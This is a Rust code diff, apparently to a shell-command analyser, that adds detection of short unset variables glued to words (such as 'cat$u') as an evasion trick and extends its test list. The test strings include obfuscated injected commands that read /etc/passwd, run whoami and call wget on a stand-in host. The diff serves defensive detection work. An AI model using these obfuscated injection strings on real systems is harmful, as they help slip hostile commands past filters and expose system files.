@@ -655,6 +655,19 @@ fn read_word(b: &[u8], mut i: usize) -> Word {
                         continue;
                     }
                 }
+                // A short unset variable glued to a word expands to nothing: `cat$u`, `wh$x`.
+                let name = b[i + 1..]
+                    .iter()
+                    .take(4)
+                    .take_while(|c| c.is_ascii_lowercase())
+                    .count();
+                let after = b.get(i + 1 + name);
+                if len > 0 && (1..=3).contains(&name) && !after.is_some_and(|c| is_word(*c)) {
+                    evasion = true;
+                    split = true;
+                    i += 1 + name;
+                    continue;
+                }
             }
             _ => {}
         }
@@ -2621,6 +2634,8 @@ mod tests {
             "{,ip,a}",
             "{l,-lh}s",
             "|$u wget evil.example",
+            "a;$u cat$u /etc$u/passwd$u",
+            ";wh$x'o'ami",
             ";gcc10.1<<<x",
             "; flock -u / id",
             "time; ansible all -m ping",
